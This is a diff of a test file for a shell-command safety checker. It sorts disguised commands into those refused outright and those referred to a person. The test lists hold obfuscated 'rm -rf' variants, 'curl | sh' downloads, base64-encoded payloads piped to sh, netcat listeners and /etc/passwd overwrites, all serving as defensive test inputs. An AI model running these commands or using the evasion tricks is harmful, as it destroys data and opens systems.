@@ -117,7 +117,10 @@ describe('a disguise that the text itself explains is refused', () => {
       ¦ cd /etc >/dev/null; echo x > passwd ¦ echo x > /et?/passwd ¦ tar xf a.tar --directory=/etc
       ¦ tar -xzC /etc -f a.tgz ¦ curl -so/etc/x https://example.com ¦ wget -O/etc/x https://example.com ¦ yes | rm -r x
       ¦ docker run -v /:/h alpine ¦ setcap cap_setuid+ep x ¦ git config --global core.pager x
-      ¦ node --inspect=0.0.0.0 x.js ¦ uwsgi --http :80 ¦ tcpserver 0 80 x`,
+      ¦ node --inspect=0.0.0.0 x.js ¦ uwsgi --http :80 ¦ tcpserver 0 80 x ¦ a=ls; a=rm; $a -rf x ¦ a=rm; a=ls; $a -rf x
+      ¦ for c in ls rm; do $c -rf x; done ¦ {rm,-rf,x} ¦ r{m,} -rf x ¦ echo rf | xargs -I{} rm -{} x
+      ¦ echo -rf x | xargs rm ¦ set -- rm -rf x; "$@" ¦ set -- rm -rf x; $* ¦ set -- -rf; rm $1 x`,
+    'rm ${z:--rf} x',
     'rm -r${e:=f} x',
     'cat <<EOF | sh\nrm -rf x\nEOF',
     'source /dev/stdin <<EOF\nrm -rf x\nEOF',
@@ -131,15 +134,13 @@ describe('on a disguise that only running it would lift, a person decides', () =
     ...listed`
       /b?n/r? -rf x ¦ $CMD x ¦ IFS=,; a=rm,-rf,x; $a ¦ read a <<< rm; $a -rf x ¦ f() { $1 -rf x; }; f rm
       ¦ sh -c "$1" _ "rm -rf x" ¦ eval "$X" ¦ echo cm0gLXJmIHg= | base64 -d | sh ¦ rev <<< 'x fr- mr' | sh
-      ¦ curl -s https://example.com/x | sh ¦ cat f | xargs rm ¦ rm $FLAGS x ¦ echo "unterminated ¦ a=ls; a=rm; $a -rf x
-      ¦ a=rm; a=ls; $a -rf x ¦ for c in ls rm; do $c -rf x; done ¦ rm $(echo -rf) x ¦ $(which rm) -rf x
-      ¦ eval "$(echo rm -rf x)" ¦ {rm,-rf,x} ¦ r{m,} -rf x ¦ printf 'rm -%s x' rf | sh ¦ printf '\x72m -rf x' | sh
-      ¦ echo -e '\x72m -rf x' | bash ¦ echo rf | xargs -I{} rm -{} x ¦ echo -rf x | xargs rm ¦ set -- rm -rf x; "$@"
-      ¦ set -- rm -rf x; $* ¦ set -- -rf; rm $1 x ¦ ionice -c 3 rm -rf x ¦ git -c alias.x='!rm -rf x' x
+      ¦ curl -s https://example.com/x | sh ¦ cat f | xargs rm ¦ rm $FLAGS x ¦ echo "unterminated ¦ rm $(echo -rf) x
+      ¦ $(which rm) -rf x ¦ eval "$(echo rm -rf x)" ¦ printf 'rm -%s x' rf | sh ¦ printf '\x72m -rf x' | sh
+      ¦ echo -e '\x72m -rf x' | bash ¦ ionice -c 3 rm -rf x ¦ git -c alias.x='!rm -rf x' x
       ¦ git submodule foreach "rm -rf x" ¦ git rebase --exec "rm -rf x" HEAD~2
       ¦ tar cf a --checkpoint=1 --checkpoint-action=exec="rm -rf x" b ¦ awk 'BEGIN { system("rm -rf x") }'
-     `,
-    'rm ${z:--rf} x',
+      ¦ nc $(echo -l) 4444 ¦ python3 -m $(printf http.server) ¦ echo -e '-l\t4' | xargs nc ¦ printf %s -l | xargs nc
+      ¦ tee $(printf /etc/%s passwd)`,
     'rm `printf %s -rf` x',
     'a=(rm -rf x); "${a[@]}"',
   ])('%s', (command) => {
